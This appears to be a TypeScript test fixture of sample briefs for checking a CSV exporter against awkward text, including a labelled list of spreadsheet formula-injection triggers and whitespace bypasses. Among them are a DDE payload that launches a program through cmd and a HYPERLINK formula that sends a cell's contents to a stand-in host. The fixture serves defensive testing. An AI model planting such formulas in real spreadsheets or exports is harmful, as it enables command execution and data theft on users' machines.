import type { Brief } from '@briefs/ast';
import { at, brief, claim, section } from './make-brief.js';

/**
 * Hand-written briefs covering every node type and the awkward text a CSV must survive: quotes,
 * commas, CR/LF, Arabic and Farsi, emoji, leading zeros, formula triggers and their whitespace
 * bypasses, negative and huge numbers. Written for these tests (no corpus text).
 */

/** The OWASP CSV-injection trigger list, with bypasses through leading white space. */
export const FORMULA_TEXTS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '   +2+3',
  '\u00a0=1+1',
  '\u2003=1+1',
  '\u3000@SUM(1;2)',
  '\u200b=1+1',
  '\n=1+1',
  '＝1+1',
  '=HYPERLINK("http://example.invalid/?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '-2',
  "'already quoted",
];

export const AWKWARD_TEXTS = [
  'He said "no", then left.',
  'a,b,,c',
  'line one\r\nline two',
  'line one\nline two',
  'carriage\rreturn',
  'ينبغي على التحالف أن يجتمع مجدداً.',
  'ائتلاف باید دوباره گرد هم آید.',
  'Emoji 🇺🇦 👩🏽‍💻 ✔︎',
  '007',
  '0.50',
  '1e5',
  '  padded  ',
  'trailing comma,',
  '"',
  '""',
  'tab\tinside',
  'semi;colon',
  'x'.repeat(300),
];

export const sampleBriefs = (): Brief[] => {
  const adversarial = [...FORMULA_TEXTS, ...AWKWARD_TEXTS].map((text, i) => claim(`c${i + 3}`, text, [], { position: at(20 + i, 3) }));
  return [
    brief(
      'alpha-report',
      [
        section('s0', 0, null, [
          claim(
            'c1',
            'The coalition has 81 members and spent $400 million.',
            [
              {
                type: 'figure',
                id: 'f1',
                text: '81 members',
                value: 81,
                unit: null,
                kind: 'count',
                approximate: false,
                valueMax: null,
                subject: 'members',
                range: [19, 29],
                position: at(3, 20),
              },
              {
                type: 'figure',
                id: 'f2',
                text: '$400 million',
                value: 400_000_000,
                unit: 'USD',
                kind: 'money',
                approximate: false,
                valueMax: null,
                subject: null,
                range: [40, 52],
              },
            ],
            { position: at(3, 1) },
          ),
        ], 3),
        section('s1', 2, '=WHAT "IT" ACHIEVED, 2019', [
          claim(
            'c2',
            'Prices may fall by -3.5% to -1e21 between 2007 and 2009, said the Ministry.',
            [
              {
                type: 'figure',
                id: 'f3',
                text: '-3.5%',
                value: -3.5,
                unit: '%',
                kind: 'percent',
                approximate: true,
                valueMax: -1e21,
                subject: 'prices',
                range: [18, 23],
                position: at(7, 18),
              },
              { type: 'date', id: 'd1', text: 'between 2007 and 2009', value: '2007/2009', precision: 'year', range: [34, 55], position: at(7, 34) },
              { type: 'entity', id: 'e1', text: 'the Ministry', name: 'Ministry of Finance', kind: 'organization', range: [62, 74] },
              { type: 'quote', id: 'q1', text: '+ we will act', speaker: 'A. Minister', range: [0, 10] },
              { type: 'link', url: 'https://example.org/a?b=1,2', text: '@ministry', range: [62, 74] },
              { type: 'figure', id: 'f4', text: 'thousands of', value: null, unit: null, kind: 'count', approximate: true, valueMax: null, subject: null, range: [0, 3] },
              { type: 'figure', id: 'f5', text: 'tiny', value: 1e-7, unit: 'km', kind: 'measure', approximate: false, valueMax: 0.1 + 0.2, subject: null, range: [0, 3] },
              { type: 'date', id: 'd2', text: 'October 27, 2019', value: '2019-10-27', precision: 'day', range: [0, 3] },
              { type: 'date', id: 'd3', text: 'last month', value: '2019-10', precision: 'month', range: [0, 3] },
              { type: 'date', id: 'd4', text: 'in 1850', value: '1850', precision: 'year', range: [0, 3] },
            ],
            { kind: 'attributed', source: 'the Ministry', hedge: 'may', position: at(7, 1), speaker: 'Moderator' },
          ),
          ...adversarial,
        ], 6),
      ],
      {
        title: '-Counter "ISIS", coalition',
        authors: [{ name: 'Ada Lovelace' }, { name: 'علي رضا' }],
        published: '2019-11-07',
        publisher: 'Example Institute',
        sourceUrl: 'https://example.org/policy/alpha',
        topics: ['Terrorism', 'U.S. Policy'],
        regions: ['Iraq', 'Syria'],
        translations: [{ language: 'ar', title: 't', url: 'https://example.org/ar' }, { language: 'fa', title: 't', url: 'https://example.org/fa' }],
        kind: 'Brief Analysis',
        summary: '@summary line\nsecond line',
      },
      { source: { path: 'corpus/alpha report.md', format: 'markdown', encoding: 'utf-8', bytes: 12345, sha256: 'a'.repeat(64) } },
    ),
    brief(
      'beta',
      [section('s1', 1, 'Only heading', [claim('c1', 'Short one.', [], { position: at(2) })], 1)],
      { title: 'Beta', published: '2020-02-29T10:00:00Z', updated: '2020-03' },
    ),
    brief('empty-doc', [], { title: '' }),
  ];
};
